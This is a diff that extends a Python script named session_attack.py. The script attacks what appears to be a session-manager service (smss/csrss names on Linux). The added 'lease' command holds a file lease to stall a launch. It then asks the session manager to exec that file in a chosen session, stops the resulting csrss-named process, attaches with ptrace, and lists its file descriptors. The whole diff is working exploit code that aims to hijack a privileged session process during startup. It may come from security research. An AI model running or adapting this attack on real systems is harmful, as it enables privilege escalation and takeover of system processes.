@@ -10,10 +10,14 @@ session_attack.py front FILE          that program
 session_attack.py linger PID          as a root process of a session: takes csrss's connection out
                                       of PID and sends the master a message with an fd whose last
                                       close takes a minute
+session_attack.py lease N FILE        as the owner of session N and of FILE: has it started there
+                                      while nobody can open it, and stops and traces the process
+                                      that is to become it; says how that went, and stays
 """
 
 import array
 import ctypes
+import fcntl
 import os
 import signal
 import socket
@@ -24,7 +28,8 @@ import time
 PORT = "/run/smss/SmApiPort"
 EXEC_PGM, ITEM = 3, 25
 EXEC = "<IIIHHI48s2000s"
-TERMINAL, SIGNAL = 2, 1
+DETACHED, TERMINAL, SIGNAL = 1, 2, 1
+PTRACE_SEIZE = 0x4206
 
 
 def connect():
@@ -96,6 +101,41 @@ def linger(pid):
     time.sleep(1000)
 
 
+def to_become():
+    """A process of ours that is still csrss."""
+    while True:
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                with open("/proc/%s/status" % pid) as f:
+                    status = dict(line.split(":\t", 1) for line in f)
+            except (OSError, ValueError):
+                continue
+            if status["Name"] == "csrss\n" and status["Uid"].split()[0] == str(os.getuid()):
+                return int(pid)
+        time.sleep(0.01)
+
+
+def lease(n, path):
+    libc = ctypes.CDLL(None, use_errno=True)
+    signal.signal(signal.SIGIO, signal.SIG_IGN)
+    fd = os.open(path, os.O_RDWR)  # opening it waits until we give way: F_SETLEASE, fcntl(2)
+    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
+    words = path.encode() + b"\0"
+    s = connect()
+    s.send(message(EXEC_PGM, struct.pack(EXEC, n, DETACHED, 0, 0, 0, len(words), b"", words)))
+    pid = to_become()
+    os.kill(pid, signal.SIGSTOP)
+    if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) < 0:
+        print("ptrace: " + os.strerror(ctypes.get_errno()), flush=True)
+    try:
+        print("its fds: %s" % os.listdir("/proc/%d/fd" % pid), flush=True)
+    except OSError as e:
+        print("fds: " + e.strerror, flush=True)
+    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
+    print("stopped %d" % pid, flush=True)
+    time.sleep(1000)
+
+
 if __name__ == "__main__":
     verb = sys.argv[1]
     if verb == "kill":
@@ -104,3 +144,5 @@ if __name__ == "__main__":
         front(sys.argv[2])
     elif verb == "linger":
         linger(int(sys.argv[2]))
+    elif verb == "lease":
+        lease(int(sys.argv[2]), sys.argv[3])
